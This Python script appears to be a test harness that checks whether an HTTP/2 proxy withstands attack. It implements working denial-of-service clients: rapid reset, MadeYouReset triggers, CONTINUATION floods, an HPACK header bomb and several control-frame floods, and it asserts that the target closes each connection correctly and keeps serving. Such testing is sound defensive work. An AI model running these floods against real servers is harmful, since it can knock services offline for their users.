"""Clients that cost much and pay little; each begins as one that behaves, by the library h2, and turns.

Usage: attacks.py HOST:PORT CA|- NAME. Prints what came of it as `word=value`, and ends with an error when the
connection's end is not what it has to be. Those that hold something say `held` and wait for a line before they go on.
"""

import random
import sys
import time

from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from well import Well, is_served
from wire import CALM, CANCEL, FLOW, PROTOCOL, REFUSED, on, with_body

TO, CA, NAME = sys.argv[1], None if sys.argv[2] == "-" else sys.argv[2], sys.argv[3]
BIG = 2**31 - 1


def turned(settings=None):
    """A connection that has behaved for one request, from here on without its library; the next stream is 3."""
    well = Well(TO, CA, settings)
    if settings and settings.get(4) == 0:
        # Nothing would arrive.
        wire = well.wire
    else:
        assert well.ask("/served")[0] == "200"
        wire = well.wire
    # The tables are where the library has left them.
    wire.encoder = well.state.encoder
    wire.decoder = well.state.decoder
    wire.decoder.max_header_list_size = 1 << 24
    return wire


def say(**words):
    print(" ".join(f"{key}={value}" for key, value in words.items()), flush=True)


def wait():
    """Until whoever has started this says so."""
    sys.stdin.readline()


def end(it, *codes):
    """Hears the end of the connection, which has one of these codes."""
    it.until(lambda came: came.closed)
    assert it.came.closed, f"not closed: {it.came}"
    # What was written into a connection that is closed may destroy the last word that was on its way.
    assert not it.came.goaways or it.came.goaways[-1][0] in codes, it.came
    return it.came.goaways[-1][0] if it.came.goaways else "none"


def flood(it, data, most):
    """Sends these bytes again and again until the connection has had enough of them; how often, and its code."""
    it.polite = it.generous = False
    for sent in range(most):
        if not it.raw(data):
            break
        # Whoever answers every frame must be listened to, or nobody writes any more.
        while it.next(0) is not None:
            pass
        if it.came.closed or it.came.goaways:
            break
    else:
        raise AssertionError(f"{most} times, and no end: {it.came}")
    return sent + 1, end(it, CALM)


def rapid_reset():
    it = turned()
    sent = 0
    for first in range(3, 40_003, 400):
        frames = []
        for stream in range(first, first + 400, 2):
            frames += [it.head(stream, it.fields()), RstStreamFrame(stream, error_code=CANCEL)]
        if not it.send(*frames).lost:
            sent += 200
        if it.lost:
            break
    say(sent=sent, code=end(it, CALM))


def patient_reset():
    """Waits until each request is under way, and then resets it."""
    it = turned()
    it.polite = False
    for number in range(2_000):
        stream = number * 2 + 3
        it.get(stream, path="/held").ping(number.to_bytes(8, "big"))
        it.until(lambda came: came.goaways or came.closed or came.pongs[-1:] == [number.to_bytes(8, "big")])
        if it.came.goaways or it.came.closed:
            return say(sent=number, code=end(it, CALM))
        it.reset(stream)
    raise AssertionError("no end")


def begun(it, stream, length="9"):
    return it.head(stream, it.fields("POST", "/held", [("content-length", length)]), end=False)


def itself(stream):
    it = PriorityFrame(stream)
    it.depends_on, it.stream_weight, it.exclusive = stream, 9, False
    return it


# MadeYouReset: a request, and a frame with which the proxy has to reset it.
TRIGGERS = {
    "window_of_nothing": lambda it, at: [begun(it, at), with_body(WindowUpdateFrame(at), bytes(4))],
    "window_overflow": lambda it, at: [begun(it, at), WindowUpdateFrame(at, window_increment=BIG)],
    "after_the_end": lambda it, at: [it.head(at, it.fields(path="/held")), DataFrame(at, data=b"x")],
    "bad_priority": lambda it, at: [begun(it, at), with_body(PriorityFrame(at), b"\0")],
    "on_itself": lambda it, at: [begun(it, at), itself(at)],
    "wrong_length": lambda it, at: [begun(it, at), DataFrame(at, data=b"x", flags=["END_STREAM"])],
    "malformed": lambda it, at: [it.head(at, it.fields(more=[("Upper", "case")]))],
    "trailers_without_end": lambda it, at: [begun(it, at), it.head(at, [("x", "y")], end=False)],
}


def made_you_reset():
    for name, trigger in TRIGGERS.items():
        it = turned()
        for number in range(1_000):
            if it.send(*trigger(it, number * 2 + 3)).lost:
                break
        code = end(it, CALM)
        assert code != "none" or it.lost, it.came
        assert len(it.came.resets) <= 140, len(it.came.resets)
        # Somebody who makes few mistakes goes on.
        few = turned()
        for number in range(40):
            few.send(*trigger(few, number * 2 + 3))
        few.until(lambda came: len(came.resets) == 40)
        few.get(101, "/served")
        few.until(lambda came: came.is_over(101))
        assert (len(few.came.resets), few.came.status(101)) == (40, "200"), few.came
        few.close()
        say(trigger=name, resets=len(it.came.resets), code=code)
        assert is_served(TO, CA)


def continuation():
    """Blocks without an end: of nothing, of fields that nobody remembers, of those that fill the table, in Huffman's code."""
    for name in ["empty", "one_byte", "plain", "remembered"]:
        it = turned()
        head = it.head(3, it.fields())
        head.flags.discard("END_HEADERS")
        it.send(head)
        field = [("x-filler", "y" * 500)] if name == "plain" else [("x-filler", str(random.random()) * 40)]
        part = {"empty": b"", "one_byte": b"\x82"}.get(name)
        part = it.encoder.encode(field, huffman=True) if part is None else part
        sent, code = flood(it, ContinuationFrame(3, data=part).serialize() * 20, 20_000)
        say(parts=name, sent=sent * 20, bytes=sent * 20 * len(part), code=code)
        assert is_served(TO, CA)


def indexed(stream, count, start):
    """A request, and one entry of the table so many times."""
    one = encode_integer(62, 7)
    one[0] |= 0x80
    return HeadersFrame(stream, data=start + bytes(one) * count, flags=["END_HEADERS", "END_STREAM"])


def bomb(value, count):
    """As many streams as there may be, each of one entry again and again, on connections whose windows are shut."""
    held = []
    for _ in range(10):
        it = turned({4: 0})
        it.generous = False
        it.get(1, "/large", more=[("x-bomb", "b" * value)])
        start = b"\x82" + (b"\x87" if CA else b"\x86") + b"\x04\x06/large\x01\x09shop.test"
        frames = [indexed(stream, count, start) for stream in range(3, 201, 2)]
        it.send(*frames)
        # On a busy machine the first may have been given up before the last is answered.
        it.until(lambda came: len({*came.fields, *came.resets}) >= 100)
        statuses = {it.came.status(stream) for stream in it.came.fields}
        assert not it.came.closed and len({*it.came.fields, *it.came.resets}) == 100, it.came
        held.append(it)
    say(
        statuses=",".join(sorted(statuses)),
        streams=sum(len({*it.came.fields, *it.came.resets}) for it in held),
    )
    print("held", flush=True)
    wait()
    # A byte at a time keeps nothing alive.
    until = time.monotonic() + 60
    while not all(it.came.closed for it in held) and time.monotonic() < until:
        for it in held:
            if not it.came.closed:
                open_ones = [at for at in range(1, 201, 2) if not it.came.is_over(at)]
                it.send(*(WindowUpdateFrame(at, window_increment=1) for at in open_ones))
        # A byte for each of them, several times within the limit.
        wake = time.monotonic() + 0.4
        for it in held:
            it.next(0.001)
            while it.next(0) is not None:
                pass
        time.sleep(max(0, wake - time.monotonic()))
    say(
        reset=sum(len(it.came.resets) for it in held),
        whole=sum(len(it.came.ended) for it in held),
        closed=sum(it.came.closed for it in held),
        codes=",".join({str(code) for it in held for code, _ in it.came.goaways}),
    )


def floods():
    several = SettingsFrame(0)
    kinds = {
        "ping": PingFrame(0, opaque_data=b"are you?").serialize(),
        "ping_answers": PingFrame(0, opaque_data=b"are you?", flags=["ACK"]).serialize(),
        "settings": SettingsFrame(0, settings={4: 65_535}).serialize(),
        "many_settings": with_body(several, b"\0\4\0\0\0\0\0\4\0\0\xff\xff" * 1_000).serialize(),
        "no_settings": SettingsFrame(0).serialize(),
        "settings_acknowledged": SettingsFrame(0, flags=["ACK"]).serialize(),
        "priority": itself(5).serialize()[:9] + bytes([0, 0, 0, 0, 9]),
        "window": WindowUpdateFrame(0, window_increment=1).serialize(),
        "goaway": b"\0\0\x08\x07\0\0\0\0\0" + bytes(8),
        "reset": RstStreamFrame(1, error_code=CANCEL).serialize(),
        "unknown": b"\0\0\x08\x77\0\0\0\0\0" + bytes(8),
    }
    for name, data in kinds.items():
        it = turned()
        if name == "many_settings":
            # Each of them is worked into the windows of all of these.
            it.send(*(it.head(number * 2 + 3, it.fields(path="/held")) for number in range(100)))
        if name == "goaway":
            # One alone would end a connection on which nothing is under way.
            it.get(3, "/held")
        many = max(1, 4_000 // len(data))
        sent, code = flood(it, data * many, 4_000)
        say(flood=name, sent=sent * many, code=code)
        assert is_served(TO, CA)


def content():
    """Content of nothing, of a byte, and of padding, on a request that never ends."""
    kinds = {
        "empty": DataFrame(3),
        "one_byte": DataFrame(3, data=b"x"),
        "padding": DataFrame(3, pad_length=255, flags=["PADDED"]),
        "padding_of_nothing": DataFrame(3, pad_length=0, flags=["PADDED"]),
    }
    for name, frame in kinds.items():
        it = turned()
        it.post(3, "/held")
        data = frame.serialize() * 100
        sent, code = flood(it, data, 20_000)
        say(content=name, sent=sent * 100, code=code)
        assert is_served(TO, CA)


def windows():
    """Shut, opened by a byte, overflowing, on every stream: what was asked is answered in the end."""
    it = turned({4: 0})
    it.generous = False
    streams = range(1, 101, 2)
    it.send(*(it.head(at, it.fields()) for at in streams))
    it.until(lambda came: len(came.fields) == 50)
    for _ in range(4):
        it.send(*(WindowUpdateFrame(at, window_increment=1) for at in streams))
    it.until(lambda came: all(came.text(at) == "hell" for at in streams))
    it.send(SettingsFrame(0, settings={4: 1}))
    it.until(lambda came: all(at in came.ended for at in streams))
    assert all(it.came.text(at) == "hello" for at in streams), it.came
    # The connection's own.
    it = turned()
    it.post(3, "/held").window(0, BIG)
    say(windows=50, code=end(it, FLOW))


def identities():
    """Row b23, each on a connection that was in use."""
    for name, code, frames in [
        ("even", PROTOCOL, lambda it: [it.head(4, it.fields())]),
        ("again", PROTOCOL, lambda it: [it.head(1, it.fields())]),
        ("lower", PROTOCOL, lambda it: [it.head(9, it.fields()), it.head(7, it.fields())]),
        ("exhausted", PROTOCOL, lambda it: [it.head(BIG, it.fields()), it.head(3, it.fields())]),
        ("stream_0", PROTOCOL, lambda it: [on(it.head(3, it.fields()), 0)]),
    ]:
        it = turned()
        it.send(*frames(it))
        say(identity=name, code=end(it, code))
        assert is_served(TO, CA)


def crowd():
    """Streams beyond the limit, again and again: refused, and not one of them is passed on."""
    it = turned()
    it.send(*(it.head(number * 2 + 3, it.fields(path="/held")) for number in range(100)))
    it.send(*(it.head(number * 2 + 203, it.fields(path="/served")) for number in range(400)))
    it.until(lambda came: len(came.resets) == 400)
    assert set(it.came.resets.values()) == {REFUSED}, it.came
    it.reset(3)
    it.get(2003, "/served")
    it.until(lambda came: came.is_over(2003))
    say(refused=len(it.came.resets), status=it.came.status(2003))


if NAME == "bomb":
    bomb(3_900, 490)
elif NAME == "small_bomb":
    bomb(100, 80)
else:
    globals()[NAME]()
assert is_served(TO, CA)
